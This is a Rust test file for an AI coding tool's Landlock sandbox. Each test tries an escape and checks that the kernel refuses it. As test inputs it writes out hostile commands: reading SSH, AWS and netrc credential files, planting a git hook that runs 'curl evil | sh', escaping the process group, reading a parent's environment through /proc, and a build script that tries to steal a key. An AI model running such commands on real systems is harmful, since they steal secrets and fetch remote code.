//! The shell tool's OS sandbox, tried as an attacker would: every escape a command might
//! attempt is refused by the kernel, and each test also shows the same command working
//! where the policy allows it, so a test cannot pass because the command never ran.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use hearth_tools::{landlock_abi, SandboxLevel, ShellPolicy};
use serde_json::json;

use crate::common::TestRepo;

const PATH: &str = "/usr/local/bin:/usr/bin:/bin";

/// A git repository whose commands run with `home` as `HOME`, in the given sandbox.
fn sandboxed(home: &Path, level: SandboxLevel, network: bool) -> TestRepo {
    assert!(
        landlock_abi().is_some(),
        "these tests need a kernel with Landlock; hearth refuses to sandbox without it"
    );
    let mut repo = TestRepo::new();
    repo.ctx.shell = ShellPolicy::new(
        vec![
            ("PATH".to_string(), PATH.to_string()),
            ("HOME".to_string(), home.display().to_string()),
        ],
        &[],
    )
    .with_sandbox(level, network);
    repo
}

fn shell(repo: &TestRepo, command: &str) -> String {
    repo.text("shell", json!({ "command": command }))
}

/// A home directory with credentials and an ordinary project beside them.
fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES").unwrap();
    std::fs::create_dir_all(home.path().join(".aws")).unwrap();
    std::fs::write(home.path().join(".aws/credentials"), "aws-secret-value").unwrap();
    std::fs::write(
        home.path().join(".netrc"),
        "machine x password netrc-secret",
    )
    .unwrap();
    std::fs::create_dir_all(home.path().join("notes")).unwrap();
    std::fs::write(home.path().join("notes/todo.txt"), "ordinary text").unwrap();
    home
}

#[test]
fn credential_files_are_unreadable_and_the_rest_of_home_is_not() {
    let home = home();
    let repo = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, false);
    let text = shell(
        &repo,
        "cat \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\" \"$HOME/.netrc\"; \
         ls \"$HOME/.ssh\"; cat \"$HOME/notes/todo.txt\"",
    );
    assert!(!text.contains("PRIVATE-KEY"), "{text}");
    assert!(!text.contains("secret"), "{text}");
    assert!(text.contains("Permission denied"), "{text}");
    assert!(text.contains("ordinary text"), "{text}");
    // Unconfined, the same command reads them: the sandbox is what stops it.
    let open = sandboxed(home.path(), SandboxLevel::Off, false);
    let text = shell(&open, "cat \"$HOME/.aws/credentials\"");
    assert!(text.contains("aws-secret-value"), "{text}");
}

#[test]
fn writes_land_inside_the_repository_and_nowhere_else() {
    let home = home();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted");
    let repo = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, false);
    let text = shell(
        &repo,
        &format!(
            "echo x > '{}'; echo y > \"$HOME/notes/todo.txt\"; rm -f \"$HOME/.netrc\"; \
             mkdir -p src/new && echo ok > src/new/file.txt && echo top > top.txt && \
             echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"",
            target.display()
        ),
    );
    assert!(!target.exists(), "{text}");
    assert_eq!(
        std::fs::read_to_string(home.path().join("notes/todo.txt")).unwrap(),
        "ordinary text"
    );
    assert!(home.path().join(".netrc").exists(), "{text}");
    assert_eq!(repo.read("src/new/file.txt"), "ok\n", "{text}");
    assert_eq!(repo.read("top.txt"), "top\n", "{text}");
    assert!(text.contains("scratch"), "{text}");
}

#[test]
fn git_metadata_cannot_be_written_even_by_git() {
    let home = home();
    let outside = tempfile::tempdir().unwrap();
    let mut repo = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, false);
    repo.write("a.txt", "one\n");
    repo.commit("first");
    let head = std::fs::read(repo.path(".git/HEAD")).unwrap();
    let text = shell(
        &repo,
        &format!(
            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; \
             echo junk >> .git/HEAD; git config user.name mallory; \
             git log -1 --output='{}/leak'; git status --short; echo done",
            outside.path().display()
        ),
    );
    assert!(!repo.path(".git/hooks/pre-commit").exists(), "{text}");
    assert_eq!(std::fs::read(repo.path(".git/HEAD")).unwrap(), head);
    assert!(!std::fs::read_to_string(repo.path(".git/config"))
        .unwrap()
        .contains("mallory"));
    assert!(!outside.path().join("leak").exists(), "{text}");
    // Reading history still works inside the sandbox.
    assert!(text.contains("done"), "{text}");
}

#[test]
fn the_read_only_level_writes_nothing_but_its_temporary_directory() {
    let home = home();
    let repo = sandboxed(home.path(), SandboxLevel::ReadOnly, false);
    repo.write("keep.txt", "original\n");
    let text = shell(
        &repo,
        "echo changed > keep.txt; touch new.txt; echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
    );
    assert_eq!(repo.read("keep.txt"), "original\n", "{text}");
    assert!(!repo.path("new.txt").exists(), "{text}");
    assert!(
        text.contains("\nt\n") || text.starts_with("t\n") || text.contains("t\n["),
        "{text}"
    );
}

/// A listener on loopback must see no connection from a confined command; with the
/// network allowed, the same command connects (so the probe itself works).
#[test]
fn no_network_unless_allowed() {
    let home = home();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!("curl -s -m 3 http://127.0.0.1:{port}/ ; echo curl-exit=$?");

    let confined = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, false);
    let text = shell(&confined, &probe);
    assert!(text.contains("curl-exit="), "{text}");
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the confined command reached the listener: {other:?}; {text}"),
    }

    let allowed = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, true);
    let text = shell(&allowed, &probe);
    listener.set_nonblocking(false).unwrap();
    std::thread::sleep(Duration::from_millis(50));
    listener.set_nonblocking(true).unwrap();
    assert!(
        listener.accept().is_ok(),
        "with the network allowed the command should connect: {text}"
    );
}

/// A command cannot leave the process group the tool kills (so nothing outlives the call),
/// cannot signal hearth, and cannot read hearth's unscrubbed environment through /proc.
#[test]
fn commands_stay_contained() {
    let home = home();
    let repo = sandboxed(home.path(), SandboxLevel::WorkspaceWrite, false);
    let text = shell(
        &repo,
        "setsid sh -c 'echo $$ > escaped.pid; sleep 30' & sleep 0.5; \
         kill -0 $PPID && echo signalled-parent; \
         cat /proc/$PPID/environ > /dev/null && echo read-parent-environ; echo end",
    );
    assert!(text.contains("end"), "{text}");
    assert!(!text.contains("signalled-parent"), "{text}");
    assert!(!text.contains("read-parent-environ"), "{text}");
    if let Ok(pid) = std::fs::read_to_string(repo.path("escaped.pid")) {
        let alive = Path::new(&format!("/proc/{}", pid.trim())).exists();
        assert!(
            !alive,
            "a process escaped the group and outlived the call: {text}"
        );
    }
    // Unconfined, the same probes succeed, so the test can tell.
    let open = sandboxed(home.path(), SandboxLevel::Off, false);
    let text = shell(&open, "kill -0 $PPID && echo signalled-parent");
    assert!(text.contains("signalled-parent"), "{text}");
}

/// The commands the agent runs most, a project's tests, work inside the sandbox with the
/// user's real toolchains: Python's unittest, cargo (whose caches under `~/.cargo` are
/// read-only there) and npm.
#[test]
fn project_test_commands_run_inside_the_sandbox() {
    let environment: Vec<(String, String)> = std::env::vars()
        .filter(|(name, _)| ["PATH", "HOME", "CARGO_HOME", "RUSTUP_HOME"].contains(&name.as_str()))
        .collect();
    let mut repo = TestRepo::new();
    repo.ctx.shell = ShellPolicy::new(environment, &[]);
    repo.write(
        "test_calc.py",
        "import unittest\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(1 + 1, 2)\n",
    );
    repo.write(
        "Cargo.toml",
        "[package]\nname = \"calc\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    repo.write(
        "src/lib.rs",
        "#[test]\nfn adds() {\n    assert_eq!(1 + 1, 2);\n}\n",
    );
    repo.write(
        "package.json",
        "{\"name\": \"calc\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"node test.js\"}}\n",
    );
    repo.write(
        "test.js",
        "if (1 + 1 !== 2) process.exit(1); console.log('js ok');\n",
    );
    let text = shell(&repo, "python3 -m unittest -q 2>&1 | tail -1");
    assert!(text.contains("OK"), "{text}");
    let text = repo.text(
        "shell",
        json!({"command": "cargo test --lib -q 2>&1 | grep 'test result'", "timeout_secs": 300}),
    );
    assert!(text.contains("test result: ok. 1 passed"), "{text}");
    let text = shell(&repo, "npm test 2>&1 | tail -2");
    assert!(text.contains("js ok"), "{text}");
}

/// An allow rule for `cargo test` runs whatever `build.rs` the model wrote: that code is
/// confined like any command, so it cannot write outside the repository or read secrets.
#[test]
fn a_build_script_is_confined_like_the_command_that_runs_it() {
    let home = home();
    let outside = tempfile::tempdir().unwrap();
    // The toolchain stays the real one (rustup finds it through these), while HOME is the
    // planted one with the key in it.
    let real_home = std::env::var("HOME").unwrap();
    let toolchain = |name: &str, default: &str| {
        std::env::var(name).unwrap_or_else(|_| format!("{real_home}/{default}"))
    };
    let environment = vec![
        ("PATH".to_string(), std::env::var("PATH").unwrap()),
        ("CARGO_HOME".to_string(), toolchain("CARGO_HOME", ".cargo")),
        (
            "RUSTUP_HOME".to_string(),
            toolchain("RUSTUP_HOME", ".rustup"),
        ),
        ("HOME".to_string(), home.path().display().to_string()),
    ];
    let mut repo = TestRepo::new();
    repo.ctx.shell = ShellPolicy::new(environment, &[]);
    repo.write(
        "Cargo.toml",
        "[package]\nname = \"calc\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n",
    );
    repo.write("src/lib.rs", "pub fn one() -> u32 { 1 }\n");
    repo.write(
        "build.rs",
        format!(
            "fn main() {{\n    let w = std::fs::write(\"{}/escaped\", \"x\");\n    \
             let r = std::fs::read_to_string(\"{}/.ssh/id_ed25519\");\n    \
             println!(\"cargo:warning=write={{}} read={{}}\", w.is_ok(), r.is_ok());\n}}\n",
            outside.path().display(),
            home.path().display()
        ),
    );
    let text = repo.text(
        "shell",
        json!({"command": "cargo build 2>&1 | grep -o 'write=[a-z]* read=[a-z]*'", "timeout_secs": 300}),
    );
    assert!(text.contains("write=false read=false"), "{text}");
    assert!(!outside.path().join("escaped").exists());
}
